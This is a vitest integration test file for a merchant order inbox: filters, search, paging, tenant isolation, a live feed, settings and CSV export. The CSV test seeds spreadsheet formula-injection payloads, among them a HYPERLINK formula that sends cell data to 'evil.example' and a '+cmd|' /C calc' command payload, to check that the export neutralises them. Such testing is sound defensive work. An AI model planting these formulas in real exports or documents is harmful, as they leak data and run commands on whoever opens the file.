// The merchant's order inbox against a real PostgreSQL: filters, search as merchants type and say numbers, paging,
// the CSV and its guard against formulas, the live feed, the order settings, and one store never seeing another's.
import { randomBytes } from "node:crypto";
import type { Database, Transaction } from "@kaidian/db";
import { testDatabase, testDatabaseUrl } from "@kaidian/db/testing";
import { arrangeStore } from "@kaidian/storefront/testing";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { seedOrder, TEST_ADDRESS, type SeedOrder } from "./seeded-orders";
import { exportOrdersCsv } from "./orders-csv";
import { listMerchantOrders, orderListQuerySchema, readMerchantOrder } from "./merchant-orders";
import { OrderFeed, type OrderChange } from "./order-feed";
import { readOrderSettings, saveOrderSettings } from "./order-settings";

let db: Database;
let userId: string;

beforeAll(async () => {
  db = testDatabase();
  userId = (await db.scoped({}, (tx) => tx.user.create({ data: { email: `o-${randomBytes(4).toString("hex")}@example.test`, name: "店员小王", passwordHash: "x" }, select: { id: true } }))).id;
});
afterAll(() => db.disconnect());

const inStore = <T>(tenantId: string, work: (tx: Transaction) => Promise<T>) => db.scoped({ tenantId }, work);
const seed = (tenantId: string, order: SeedOrder) => inStore(tenantId, (tx) => seedOrder(tx, tenantId, order));
const list = (tenantId: string, query: Record<string, string>) => inStore(tenantId, (tx) => listMerchantOrders(tx, orderListQuerySchema.parse(query)));
const numbers = async (tenantId: string, query: Record<string, string>) => (await list(tenantId, query)).orders.map((order) => order.number);

const tea = { title: "龙井 250g", unitPriceFen: 6800, quantity: 1 };

describe("the merchant's order inbox", () => {
  it("filters by status and by the merchant's day, newest first", async () => {
    const store = await arrangeStore(db, { name: "筛选店", templateId: "ecommerce" });
    // 23:30 on 5 November in Shanghai is still the 5th there, though 15:30 UTC; 00:30 on the 6th is 16:30 UTC on the 5th.
    const late = await seed(store, { lines: [tea], at: new Date("2026-11-05T15:30:00Z") });
    const early = await seed(store, { lines: [tea], at: new Date("2026-11-05T16:30:00Z") });
    const unpaid = await seed(store, { lines: [tea], paid: false, at: new Date("2026-11-06T02:00:00Z") });
    await inStore(store, (tx) => tx.order.updateMany({ where: { id: late.id }, data: { refundRequested: true } }));

    expect(await numbers(store, {})).toEqual([unpaid.number, early.number, late.number]);
    expect(await numbers(store, { status: "paid" })).toEqual([early.number, late.number]);
    expect(await numbers(store, { status: "pendingPayment" })).toEqual([unpaid.number]);
    expect(await numbers(store, { status: "refundRequested" })).toEqual([late.number]);
    expect(await numbers(store, { from: "2026-11-06", to: "2026-11-06" })).toEqual([unpaid.number, early.number]);
    expect(await numbers(store, { to: "2026-11-05" })).toEqual([late.number]);
    expect(await numbers(store, { from: "2026-11-06", status: "paid" })).toEqual([early.number]);
    // The numbers follow the Shanghai day too.
    expect(late.number).toMatch(/^261105-/);
    expect(early.number).toMatch(/^261106-/);
    expect(orderListQuerySchema.safeParse({ from: "2026-13-45" }).success).toBe(false);
  });

  it("finds an order by its number as typed or said, and by the shopper's or the address's phone", async () => {
    const store = await arrangeStore(db, { name: "搜索店", templateId: "ecommerce" });
    const at = new Date("2026-11-20T04:00:00Z");
    const first = await seed(store, { lines: [tea], at, shopperPhone: "13800138000", delivery: { method: "pickup", pickupAddress: "店里" } });
    const second = await seed(store, { lines: [tea], at, delivery: { method: "express", address: { ...TEST_ADDRESS, name: "韩梅梅", phone: "139-8765-4321" } } });
    expect(first.number).toBe("261120-0001");

    for (const spoken of ["261120-0001", "261120 0001", "2611200001", "２６１１２０－０００１", " 261120 - 0001 "]) {
      expect(await numbers(store, { q: spoken }), spoken).toEqual([first.number]);
    }
    expect(await numbers(store, { q: "0002" })).toEqual([second.number]);
    expect(await numbers(store, { q: "138 0013 8000" })).toEqual([first.number]);
    expect(await numbers(store, { q: "4321" })).toEqual([second.number]);
    expect(await numbers(store, { q: "韩梅梅" })).toEqual([second.number]);
    expect(await numbers(store, { q: "261121-0001" })).toEqual([]);
    expect(await numbers(store, { q: "nobody" })).toEqual([]);
  });

  it("pages twenty at a time and keeps a page past the end on the last one", async () => {
    const store = await arrangeStore(db, { name: "分页店", templateId: "ecommerce" });
    const start = Date.parse("2026-11-10T02:00:00Z");
    for (let index = 0; index < 23; index++) await seed(store, { lines: [tea], at: new Date(start + index * 60_000) });
    const first = await list(store, {});
    expect([first.total, first.pageCount, first.orders.length]).toEqual([23, 2, 20]);
    const second = await list(store, { page: "2" });
    expect(second.orders.map((order) => order.number)).toEqual(["261110-0003", "261110-0002", "261110-0001"]);
    expect((await list(store, { page: "9" })).page).toBe(2);
  });

  it("reads one order with its lines, amounts, address, note and history with who acted", async () => {
    const store = await arrangeStore(db, { name: "详情店", templateId: "ecommerce" });
    const order = await seed(store, {
      lines: [tea, { title: "T 恤", unitPriceFen: 9950, quantity: 2, skuOptions: ["红色", "L"] }],
      delivery: { method: "express", address: TEST_ADDRESS, feeFen: 1000 },
      note: "请用纸箱",
      shopperPhone: "13800000000",
    });
    await inStore(store, (tx) =>
      tx.orderEvent.create({ data: { tenantId: store, orderId: order.id, action: "ship", fromStatus: "paid", toStatus: "shipped", actorRole: "merchantStaff", actorId: userId, tracking: { company: "顺丰", number: "SF1234567890" }, at: new Date(Date.now() + 60_000) } }),
    );
    const read = (await inStore(store, (tx) => readMerchantOrder(tx, order.id)))!;
    expect(read).toMatchObject({ number: order.number, subtotalFen: 6800 + 19900, deliveryFeeFen: 1000, totalFen: 27700, paidFen: 27700, note: "请用纸箱", shopperPhone: "13800000000", address: TEST_ADDRESS });
    expect(read.lines.map((line) => [line.title, line.skuOptions, line.lineTotalFen])).toEqual([["龙井 250g", [], 6800], ["T 恤", ["红色", "L"], 19900]]);
    expect(read.events.map((event) => [event.action, event.actor.role, event.actor.name])).toEqual([
      ["place", "shopper", null],
      ["pay", "paymentNotification", null],
      ["ship", "merchantStaff", "店员小王"],
    ]);
    expect(read.events[2]!.tracking).toEqual({ company: "顺丰", number: "SF1234567890" });
    expect(await inStore(store, (tx) => readMerchantOrder(tx, "not-an-id"))).toBeNull();
  });

  it("never shows one store's orders to another, by list, search, id or CSV", async () => {
    const mine = await arrangeStore(db, { name: "我的店", templateId: "ecommerce" });
    const theirs = await arrangeStore(db, { name: "别人的店", templateId: "ecommerce" });
    const secret = await seed(theirs, { lines: [{ title: "别家的秘密商品", unitPriceFen: 100, quantity: 1 }], shopperPhone: "13700001111" });
    await seed(mine, { lines: [tea] });
    expect((await list(mine, {})).total).toBe(1);
    expect(await numbers(mine, { q: "13700001111" })).toEqual([]);
    // Numbers are per store: mine has its own 0001 of the day, never theirs.
    expect((await list(mine, { q: secret.number })).orders.map((order) => order.id)).not.toContain(secret.id);
    expect(await inStore(mine, (tx) => readMerchantOrder(tx, secret.id))).toBeNull();
    expect(await inStore(mine, (tx) => exportOrdersCsv(tx, {}))).not.toContain("别家的秘密商品");
  });
});

describe("the orders CSV", () => {
  it("has a BOM, one row per line with amounts in yuan, and defuses anything a spreadsheet would run", async () => {
    const store = await arrangeStore(db, { name: "导出店", templateId: "ecommerce" });
    await seed(store, {
      lines: [
        { title: "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", unitPriceFen: 1999, quantity: 3 },
        { title: "茶, 绿", unitPriceFen: 500, quantity: 1 },
      ],
      delivery: { method: "express", address: { ...TEST_ADDRESS, name: "@SUM(1+1)", detail: "-2+3 号" }, feeFen: 800 },
      note: "+cmd|' /C calc'!A0",
      at: new Date("2026-11-20T06:05:00Z"),
    });
    const text = await inStore(store, (tx) => exportOrdersCsv(tx, {}));
    expect(text.startsWith("\ufeff订单号,下单时间,状态,配送方式,收货人,电话,收货地址,自提点,备注,商品,规格,数量,单价（元）,小计（元）,运费（元）,订单金额（元）,实付（元）,已退款（元）,快递公司,运单号\r\n")).toBe(true);
    const rows = text.slice(1).trimEnd().split("\r\n");
    expect(rows).toHaveLength(3);
    expect(rows[1]).toBe(
      `261120-0001,2026-11-20 14:05,待发货,快递,'@SUM(1+1),13912345678,浙江省 杭州市 西湖区 -2+3 号,,'+cmd|' /C calc'!A0,"'=HYPERLINK(""http://evil.example/?""&A1,""点我"")",,3,19.99,59.97,8.00,72.97,72.97,0.00,,`,
    );
    expect(rows[2]).toContain(`,"茶, 绿",,1,5.00,5.00,8.00,72.97,`);
    // No cell of the file starts a formula.
    for (const row of rows) for (const cell of row.split(",")) expect(cell.replace(/^"/, "")).not.toMatch(/^[=+\-@]/);
    expect(await inStore(store, (tx) => exportOrdersCsv(tx, { status: "cancelled" }))).toBe(`${text.split("\r\n")[0]}\r\n`);
  });
});

describe("the live order feed", () => {
  it("tells a store's open inbox of its new and paid orders at commit, and nothing of another store's", async () => {
    const mine = await arrangeStore(db, { name: "实时店", templateId: "ecommerce" });
    const theirs = await arrangeStore(db, { name: "隔壁店", templateId: "ecommerce" });
    const feed = new OrderFeed(testDatabaseUrl());
    const heard: OrderChange[] = [];
    const unsubscribe = await feed.subscribe(mine, { onChange: (change) => heard.push(change), onResync: () => {} });
    try {
      expect(feed.connected).toBe(true);
      await seed(theirs, { lines: [tea] });
      const unpaid = await seed(mine, { lines: [tea], paid: false });
      const paid = await seed(mine, { lines: [tea] });
      await expect.poll(() => heard.length, { timeout: 10_000 }).toBe(2);
      expect(heard).toEqual([
        { order: unpaid.id, number: unpaid.number, status: "pendingPayment", newlyPaid: false },
        { order: paid.id, number: paid.number, status: "paid", newlyPaid: true },
      ]);
      await inStore(mine, (tx) => tx.order.updateMany({ where: { id: unpaid.id }, data: { status: "paid", paidFen: 6800 } }));
      await expect.poll(() => heard.at(-1), { timeout: 10_000 }).toEqual({ order: unpaid.id, number: unpaid.number, status: "paid", newlyPaid: true });
      // Bookkeeping the inbox does not show announces nothing.
      await inStore(mine, (tx) => tx.order.updateMany({ where: { id: paid.id }, data: { shippingAttempts: 1 } }));
      await seed(mine, { lines: [tea] });
      await expect.poll(() => heard.length, { timeout: 10_000 }).toBe(4);
      expect(heard[3]!.order).not.toBe(paid.id);
      // An inbox closed twice (abort and cancel) does not silence one opened after it.
      unsubscribe();
      unsubscribe();
      const later: OrderChange[] = [];
      const again = await feed.subscribe(mine, { onChange: (change) => later.push(change), onResync: () => {} });
      unsubscribe();
      const last = await seed(mine, { lines: [tea] });
      await expect.poll(() => later.map((change) => change.order), { timeout: 10_000 }).toEqual([last.id]);
      expect(heard).toHaveLength(4);
      again();
    } finally {
      unsubscribe();
      await feed.stop();
    }
  });
});

describe("order settings", () => {
  it("start at the defaults, save over their revision, and refuse a stale save or rules without a way to deliver", async () => {
    const store = await arrangeStore(db, { name: "设置店", templateId: "ecommerce" });
    const defaults = await inStore(store, (tx) => readOrderSettings(tx));
    expect(defaults).toMatchObject({ unpaidMinutes: 15, revision: 0, delivery: { express: { enabled: true, feeFen: 1000, freeFromFen: 9900 } } });
    const pickupOnly = { delivery: { express: { enabled: false, feeFen: 0, freeFromFen: null }, pickup: { enabled: true, address: "文三路 100 号" } }, unpaidMinutes: 30 };
    const saved = await inStore(store, (tx) => saveOrderSettings(tx, store, { userId, revision: 0 }, pickupOnly));
    expect(saved.revision).toBe(1);
    expect(await inStore(store, (tx) => readOrderSettings(tx))).toEqual({ ...pickupOnly, revision: 1 });
    await expect(inStore(store, (tx) => saveOrderSettings(tx, store, { userId, revision: 0 }, pickupOnly))).rejects.toMatchObject({ name: "StaleRevisionError", record: "orderSettings" });
    await expect(
      inStore(store, (tx) => saveOrderSettings(tx, store, { userId, revision: 1 }, { ...pickupOnly, delivery: { ...pickupOnly.delivery, pickup: { enabled: false, address: "" } } })),
    ).rejects.toThrow(/Switch on express or pickup/);
    await expect(inStore(store, (tx) => saveOrderSettings(tx, store, { userId, revision: 1 }, { ...pickupOnly, unpaidMinutes: 2 }))).rejects.toThrow();
    expect((await inStore(store, (tx) => readOrderSettings(tx))).revision).toBe(1);
  });
});
